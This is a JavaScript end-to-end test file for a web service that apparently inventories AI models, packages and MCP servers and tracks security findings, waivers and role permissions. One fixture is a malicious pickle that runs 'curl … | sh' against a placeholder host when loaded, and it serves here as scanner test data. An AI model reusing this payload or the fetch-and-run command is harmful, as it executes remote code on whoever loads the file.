// What people do with it from the first minute on, each as they would.

import assert from "node:assert/strict";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import test from "node:test";
import { browser, demo, serve, visit } from "../lib/estate.mjs";
import { joins, signIn, welcome } from "../lib/people.mjs";
import { Visitor } from "../lib/visitor.mjs";

const { service, people } = await demo();
const come = (who, options) => visit(service, { state: people[who], ...options });
const state = (page) => page.locator(".head .state").first();

/** A token of somebody, made on the page of the account; the path of a file that holds it. */
const token = async (visitor, scope) => {
  await visitor.go("/account");
  const { page } = visitor;
  await page.getByLabel("What it is for").fill(`a test, ${scope}`);
  await page.getByRole("checkbox", { name: scope }).check();
  await visitor.press(page.getByRole("button", { name: "Make a token" }));
  const text = (await page.locator("pre").innerText()).trim();
  assert.match(text, /^stance_/);
  const file = join(service.directory, `token-${scope}`);
  await writeFile(file, text, { mode: 0o600 });
  return file;
};

/** A directory with files: `{name: content}`. */
const tree = async (name, files) => {
  const root = join(service.directory, name);
  for (const [path, content] of Object.entries(files)) {
    await mkdir(join(root, path, ".."), { recursive: true });
    await writeFile(join(root, path), content);
  }
  return root;
};

/** A pickle that calls something when it is loaded; the address is one that exists nowhere. */
const PICKLE = "cposix\nsystem\n(S'curl -s https://models.invalid/x | sh'\ntR.";

const rows = (csv) => csv.trim().split("\r\n").map((line) => line.split(","));

test("the printed link lets the first administrator in, once", async () => {
  const fresh = await serve("serve");
  const visitor = await visit(fresh);
  await visitor.go("/");
  assert.match(visitor.page.url(), /\/sign-in\?next=/, "nobody is shown anything before");
  await welcome(visitor, fresh.link, "Grace");
  assert.equal(await visitor.page.locator("h1").innerText(), "Overview");
  await visitor.page.getByLabel("Account of Grace").click();
  await visitor.press(visitor.page.getByRole("button", { name: "Sign out" }));
  assert.match(await visitor.page.locator(".flash").innerText(), /You are signed out/);
  await visitor.go(fresh.link, 404);
  visitor.expected.add(401);
  await visitor.go("/sign-in");
  visitor.expected.add(401);
  await visitor.page.getByLabel("Name").fill("admin");
  await visitor.page.getByLabel("Password").fill("not the password");
  await visitor.press(visitor.page.getByRole("button", { name: "Sign in" }));
  assert.match(await visitor.page.getByRole("alert").innerText(), /is wrong/);
  assert.equal(await visitor.page.getByLabel("Name").inputValue(), "admin", "the name is still there");
  await signIn(visitor, "admin");
  assert.equal(await visitor.page.locator("h1").innerText(), "Overview");
  visitor.calm("signing in");
  await visitor.close();
});

test("an asset is found by search, by kind and by filter", async () => {
  const visitor = await come("ana");
  const { page } = visitor;
  await visitor.go("/");
  await page.keyboard.press("/");
  await page.keyboard.type("churn-v7");
  await Promise.all([page.waitForURL(/\/search\?q=churn-v7/), page.keyboard.press("Enter")]);
  await Promise.all([page.waitForURL(/\/inventory\/\d+$/), page.getByRole("link", { name: "churn-v7.pkl" }).first().click()]);
  assert.equal(await page.locator("h1").innerText(), "churn-v7.pkl");
  await visitor.go("/inventory");
  await visitor.press(page.getByRole("link", { name: /^MCP servers/ }));
  const servers = await page.locator("tbody .main-cell a[data-open]").allInnerTexts();
  // Servers that are known from traffic alone come beside them, once the job that looks at it has run.
  const names = servers.map((name) => name.trim());
  for (const name of ["files", "tickets", "wiki"]) assert.ok(names.includes(name), `${name} among ${names}`);
  await page.locator("summary", { hasText: "Findings" }).click();
  await visitor.press(page.locator(".drop[open] .drop-item").first());
  assert.ok(new URL(page.url()).searchParams.get("kind"), "filters add up");
  visitor.calm("finding an asset");
  await visitor.close();
});

test("a finding is assigned and discussed", async () => {
  const visitor = await come("ana");
  const { page } = visitor;
  await visitor.go("/findings");
  const first = page.locator("a[data-open]").first();
  const message = (await first.innerText()).trim();
  const address = await first.getAttribute("href");
  await visitor.go(address);
  assert.equal((await page.locator("h1").innerText()).trim(), message);
  await page.getByLabel("Assigned to").selectOption({ label: "Ana Lyst" });
  await visitor.press(page.getByRole("button", { name: "Assign" }));
  assert.ok((await page.locator("dl.facts").first().innerText()).includes("Ana Lyst"));
  await page.locator("summary", { hasText: "Comment" }).click();
  await page.getByRole("textbox", { name: "Comment" }).fill("The vendor was asked.\nAnswer by Friday.");
  await visitor.press(page.getByRole("button", { name: "Comment" }));
  const history = await page.locator(".timeline").innerText();
  assert.match(history, /The vendor was asked.\s+Answer by Friday/);
  await visitor.go("/findings?assignee=-");
  assert.equal(await page.locator(`a[href="${address}"]`).count(), 0, "it is nobody's no more");
  visitor.calm("triage");
  await visitor.close();
});

test("a risk is accepted by a second person only", async () => {
  const [ana, bo] = [await come("ana"), await come("bo")];
  const { findings } = await bo.api("/findings?severity=medium");
  const address = `/findings/${findings.find((one) => one.waiver === null).number}`;
  await bo.go(address);
  await bo.page.locator("summary", { hasText: "Accept the risk" }).click();
  await bo.page.getByLabel("Why can it be accepted?").fill("Only reached from the test network.");
  await bo.press(bo.page.getByRole("button", { name: "Ask for a waiver" }));
  assert.equal(await bo.page.getByRole("button", { name: "Accept the risk" }).count(), 0, "not by who asked");
  const take = bo.page.getByRole("button", { name: "Take back" });
  // The button that is not there, pressed all the same.
  await take.evaluate((button) => (button.value = "approve"));
  bo.expected.add(403);
  await bo.press(take);
  assert.match(await bo.page.locator("h1").innerText(), /not yours to do/, "it is refused");
  await bo.go(address);
  assert.match(await state(bo.page).innerText(), /open/);
  // An analyst sees it and may not decide; another approver does.
  await ana.go(address);
  assert.equal(await ana.page.getByRole("button", { name: /Accept the risk|Take back/ }).count(), 0);
  const root = await come("root");
  await root.go("/waivers");
  const row = root.page.locator("tr", { hasText: "Only reached from the test network." });
  await root.press(row.getByRole("button", { name: "Accept" }));
  await ana.go(address);
  assert.match(await state(ana.page).innerText(), /accepted/);
  assert.match(await ana.page.locator(".timeline").innerText(), /Root/);
  for (const visitor of [ana, bo, root]) {
    visitor.calm("accepting");
    await visitor.close();
  }
});

test("a drift is approved and becomes the baseline", async () => {
  const visitor = await come("bo");
  const { page } = visitor;
  const { changes } = await visitor.api("/changes?effect=weakening");
  const change = changes.find((one) => one.finding !== null);
  await visitor.go("/changes");
  await page.locator(`input[name=id][value="${change.number}"]`).check();
  assert.match(await page.locator("[data-selected]").innerText(), /1 row selected/);
  await page.getByPlaceholder("Note").fill("Agreed with the owner.");
  await visitor.press(page.getByRole("button", { name: "Approve" }));
  assert.equal(await page.locator(`input[name=id][value="${change.number}"]`).count(), 0, "it waits no more");
  await visitor.go("/changes?state=approved");
  const row = page.locator("tr", { hasText: "Agreed with the owner." });
  assert.match(await row.innerText(), /Bo Approver/);
  await visitor.go(`/findings/${change.finding}`);
  assert.match(await state(page).innerText(), /fixed/, "what it was a finding of is settled");
  visitor.calm("approving a change");
  await visitor.close();
});

test("an open page changes by itself when a scan is pushed", async () => {
  const [root, ana] = [await come("root"), await come("ana")];
  const file = await token(root, "ingest");
  await ana.go("/findings?severity=critical");
  const before = await ana.page.locator("[data-row]").count();
  await ana.page.evaluate(() => (window.sameDocument = true));
  await ana.page.locator("#live:not(.lost)").waitFor();
  const pushed = await tree("laptop", { "model.pkl": PICKLE });
  const said = await service.tell("push", pushed, "--server", service.base, "--source", "laptop of Ana", "--token-file", file);
  assert.match(said, /laptop of Ana: \d+ assets?, \d+ findings?/);
  await ana.page.locator("[data-row]", { hasText: "model.pkl" }).waitFor();
  assert.equal(await ana.page.locator("[data-row]").count(), before + 1);
  assert.equal(await ana.page.evaluate(() => window.sameDocument), true, "without loading the page again");
  for (const visitor of [root, ana]) {
    visitor.calm("live");
    await visitor.close();
  }
});

test("a source is added, looked at, and looked at again", async () => {
  const visitor = await come("root");
  const { page } = visitor;
  const path = await tree("payments", { "app.py": "import openai\n", "requirements.txt": "openai\n" });
  await visitor.go("/sources");
  await visitor.press(page.getByRole("link", { name: "Add a source" }));
  await visitor.press(page.getByRole("link", { name: /^Directory/ }));
  await page.getByLabel("Name").fill("payments");
  await page.getByLabel("Path on the server").fill(path);
  await page.getByLabel("Owner").fill("payments-team");
  await page.getByLabel("Environment").selectOption("production");
  await visitor.press(page.getByRole("button", { name: "Add and look" }));
  // The page shows the end of the run by itself.
  await page.locator(".state.good", { hasText: "succeeded" }).first().waitFor();
  const { sources } = await visitor.api("/sources");
  const source = sources.find((one) => one.name === "payments");
  await visitor.go(`/sources/${source.id}`);
  await visitor.press(page.getByRole("button", { name: "Run now" }));
  assert.match(page.url(), /\/runs\/\d+$/, "the run has a page");
  await page.locator("#run .state.good", { hasText: "succeeded" }).waitFor();
  const { runs } = await visitor.api(`/runs?source=${source.id}`);
  assert.deepEqual(runs.map((run) => [run.state, run.outcome.appeared > 0]), [["succeeded", false], ["succeeded", true]]);
  await visitor.go(`/inventory?source=${source.id}`);
  await page.locator("tr", { hasText: "openai" }).first().waitFor();
  assert.match(await page.locator("tbody").innerText(), /payments-team/);
  visitor.calm("a source");
  await visitor.close();
});

test("what lists show can be taken away as files", async () => {
  const visitor = await come("ana");
  const { page } = visitor;
  const save = async (link) => {
    const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
    return readFile(await download.path(), "utf8");
  };
  await visitor.go("/findings?severity=critical");
  const findings = rows(await save(page.getByRole("link", { name: "Export" })));
  const shown = await page.locator("[data-row]").count();
  assert.equal(findings.length, shown + 1, "the rows of the list, and a heading");
  assert.ok(findings[0].includes("severity") && findings[0].includes("rule"), findings[0].join());
  await visitor.go("/inventory?kind=package");
  const packages = await page.locator("[data-row]").count();
  await page.locator("summary", { hasText: "Export" }).click();
  const table = rows(await save(page.getByRole("link", { name: "Table (CSV)" })));
  assert.equal(table.length, packages + 1);
  await visitor.go("/inventory");
  await page.locator("summary", { hasText: "Export" }).click();
  const bill = JSON.parse(await save(page.getByRole("link", { name: /^Bill of materials/ })));
  assert.equal(bill.bomFormat, "CycloneDX");
  assert.ok(bill.components.some((one) => one.name === "torch"), "the bill names torch");
  visitor.calm("exports");
  await visitor.close();
});

test("who may less sees less and can do less", async () => {
  const root = await come("root");
  const viewer = await Visitor.open(browser, service.base, { state: await joins(browser, root, "vic", "Vic Viewer", "viewer") });
  await viewer.go("/findings");
  assert.equal(await viewer.page.locator("input[name=id]").count(), 0, "nothing to tick");
  for (const path of ["/settings/users", "/audit", "/jobs", "/sources/new"]) await viewer.go(path, 403);
  await viewer.go("/");
  assert.equal(await viewer.page.getByRole("link", { name: "Settings" }).count(), 0);
  for (const visitor of [root, viewer]) {
    visitor.calm("roles");
    await visitor.close();
  }
});
